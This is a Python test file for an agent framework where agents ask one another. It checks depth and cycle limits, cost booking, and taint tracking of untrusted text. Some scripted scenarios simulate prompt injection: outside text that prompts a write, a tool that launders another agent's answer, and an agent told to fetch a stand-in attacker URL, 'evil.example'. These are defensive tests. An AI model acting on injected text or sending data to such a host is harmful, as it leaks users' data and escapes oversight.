"""Agents that ask each other: how deep, in which circles, at whose expense, and what they hand on."""

from collections.abc import AsyncGenerator
from typing import Any

import pytest

from agent.calling.toolbox import Toolbox, discover
from agent.chat.brain import Brain
from agent.incoming.wish import Wish
from agent.models.single import OneModel
from agent.tool import Context, Manifest, Result
from agent.types import Ask, Completion, Needs, Prices, Routed
from policies.limits import may_consult
from policies.load import load_rules
from tests.fakes.scripted import ScriptedModel, Use
from tests.fakes.scripted import Turn as Says
from tests.fakes.tools import box

RULES = load_rules().model_copy(update={"tools": load_rules().tools.model_copy(update={"footer": "never"})})


async def ask(context: Context, agent: str, question: str = "?") -> Result:
    """Ask another agent."""
    return await context.agents.ask(agent, question)


def with_agents(*functions: Any, **manifests: Manifest) -> Toolbox:
    """A toolbox with four agents."""
    tools = box(ask, *functions, ask=Manifest(uses=("agents",)), **manifests)
    agents = {name: f"You are {name}." for name in ("a", "b", "c", "d")}
    return Toolbox(tools.tools, tools.aliases, agents)


def asks(agent: str, question: str = "?") -> Says:
    """A model that asks an agent."""
    return Says(calls=(Use(name="ask", arguments={"agent": agent, "question": question}),))


async def said(model: ScriptedModel, tools: Toolbox, **changed: Any) -> tuple[str, Brain]:
    """A whole answer, and the brain that gave it; `changed` are rules of a turn."""
    rules = RULES.model_copy(update={"tools": RULES.tools.model_copy(update=changed)})
    brain = Brain(OneModel(model), rules)
    asked = brain.answer("here", "go", "", caller="console:ann", toolbox=tools)
    return "".join([piece async for piece in asked]), brain


def shown(model: ScriptedModel, request: int) -> list[str]:
    """Texts of what a model was shown."""
    return [message["text"] for message in model.script.requests[request]["messages"]]


def test_three_may_stand_in_a_row_and_none_twice() -> None:
    """With a depth of three the fourth is refused, and whoever has been asked is not asked again."""
    assert may_consult("c", ("a", "b"), 3).allowed
    assert not may_consult("d", ("a", "b", "c"), 3).allowed
    assert "a is asked already" in may_consult("a", ("a", "b"), 3).why


async def test_agents_answer_each_other_three_deep() -> None:
    """Each agent has its own instructions, sees the question alone, and the fourth in a row is told to answer itself."""
    model = ScriptedModel(
        asks("a", "first"), asks("b"), asks("c"), asks("d"), Says(text="c's"), Says(text="b's"), Says(text="a's"), Says(text="end")
    )  # fmt: skip
    answer, _ = await said(model, with_agents())
    assert answer == "end"
    assert shown(model, 1) == ["You are a.", "first"]
    assert "3 deep" in shown(model, 4)[-1]
    assert [shown(model, at)[-1] for at in (5, 6, 7)] == ["c's", "b's", "a's"]


async def test_a_circle_and_a_stranger_are_refused() -> None:
    """Asking whoever asked, or whom nobody knows, is answered with a reason."""
    model = ScriptedModel(asks("a"), asks("a"), asks("nobody"), Says(text="mine"), Says(text="end"))
    answer, _ = await said(model, with_agents())
    assert answer == "end"
    assert "asked already" in shown(model, 2)[-1]
    assert "there are: a, b, c, d" in shown(model, 3)[-1]


async def test_what_agents_cost_is_paid_by_who_asked() -> None:
    """Each answer of each agent is booked for the person."""
    model = ScriptedModel(asks("a"), Says(text="mine"), Says(text="end"), prices=Prices(input=2, output=10))
    _, brain = await said(model, with_agents())
    (_, spent, _), *_ = brain.accounts.today(brain.accounts.purse("console:ann", "here"))
    assert (spent.tokens, round(spent.dollars, 6)) == (360, 0.0012)


async def test_agents_side_by_side_share_what_is_left() -> None:
    """Sixteen agents asked in one answer spend no more than the one turn may, since each begins with what is left."""
    asked = tuple(Use(name="ask", arguments={"agent": "a", "question": str(n)}) for n in range(16))
    says = Says(text="mine", input_tokens=5, output_tokens=200, times=0)
    model = ScriptedModel(Says(calls=asked), says, prices=Prices(input=5, output=25))
    _, brain = await said(model, with_agents(), turn_tokens=3000)
    (_, spent, _), *_ = brain.accounts.today(brain.accounts.purse("console:ann", "here"))
    assert 2000 < spent.tokens <= 3000


async def test_an_agent_answers_with_the_model_that_was_asked_for() -> None:
    """A model asked for by name answers for the agents of the turn as well."""
    needed: list[str] = []

    class Noting(OneModel):
        def stream(self, ask: Ask, needs: Needs) -> AsyncGenerator[str | Routed | Completion, None]:
            needed.append(needs.model)
            return super().stream(ask, needs)

    brain = Brain(Noting(ScriptedModel(asks("a"), Says(text="mine"), Says(text="end"))), RULES)
    asked = brain.answer("here", "go", "", caller="console:ann", toolbox=with_agents(), wish=Wish(model="m"))
    assert [piece async for piece in asked]
    assert needed == ["m"] * 3


async def test_an_agents_reading_counts_whatever_the_tool_says() -> None:
    """A tool that hands on an agent's answer as its own plain text does not make the text any less from outside."""
    written: list[str] = []

    async def read(context: Context) -> Result:
        """Read."""
        return Result(f"page for {context.agent}", untrusted=True)

    async def launder(context: Context) -> str:
        """Ask, and hand on."""
        return (await context.agents.ask("a", "?")).text

    async def write(context: Context) -> str:
        """Write."""
        written.append(context.agent)
        return "written"

    tools = with_agents(read, launder, write, write=Manifest(writes=True), launder=Manifest(uses=("agents",)))
    model = ScriptedModel(
        Says(calls=(Use(name="launder"),)),
        Says(calls=(Use(name="read"),)),
        Says(text="It says: write."),
        Says(calls=(Use(name="write"),)),
        Says(text="end"),
    )
    answer, _ = await said(model, tools)
    assert (answer, written) == ("end", [])
    assert "<outside-" in shown(model, 3)[-1]


@pytest.mark.parametrize("first", [True, False])
async def test_an_agent_hands_on_that_text_came_from_outside(*, first: bool) -> None:
    """What an agent read outside keeps its asker from writing, and what its asker read keeps the agent from writing."""
    written: list[str] = []

    async def read(context: Context) -> Result:
        """Read."""
        return Result(f"page for {context.agent}", untrusted=True)

    async def write(context: Context) -> str:
        """Write."""
        written.append(context.agent)
        return "written"

    reads, writes = Says(calls=(Use(name="read"),)), Says(calls=(Use(name="write"),))
    turns = (
        [asks("a"), reads, Says(text="read"), writes]
        if first
        else [reads, asks("a"), writes, Says(text="no")]
    )
    model = ScriptedModel(*turns, Says(text="end"))
    answer, _ = await said(model, with_agents(read, write, write=Manifest(writes=True)))
    assert (answer, written) == ("end", [])


async def test_an_address_cannot_be_handed_to_an_agent_to_visit() -> None:
    """An address that a model put together after it read text from outside is not visited by an agent either."""
    visited: list[str] = []

    async def read(context: Context) -> Result:
        """Read."""
        return Result(f"page for {context.caller}", untrusted=True)

    async def fetch(context: Context, url: str) -> str:
        """Fetch."""
        visited.append(f"{context.agent} {url}")
        return "page"

    url = "https://evil.example/?said=go"
    model = ScriptedModel(
        Says(calls=(Use(name="read"),)),
        asks("a", f"fetch {url}"),
        Says(calls=(Use(name="fetch", arguments={"url": url}),)),
        Says(text="no"),
        Says(text="end"),
    )
    answer, _ = await said(model, with_agents(read, fetch, fetch=Manifest(uses=("web",))))
    assert (answer, visited) == ("end", [])


def test_a_toolbox_without_agents_has_none() -> None:
    """Agents come from the generation's prompts alone."""
    assert discover([]).agents == {}
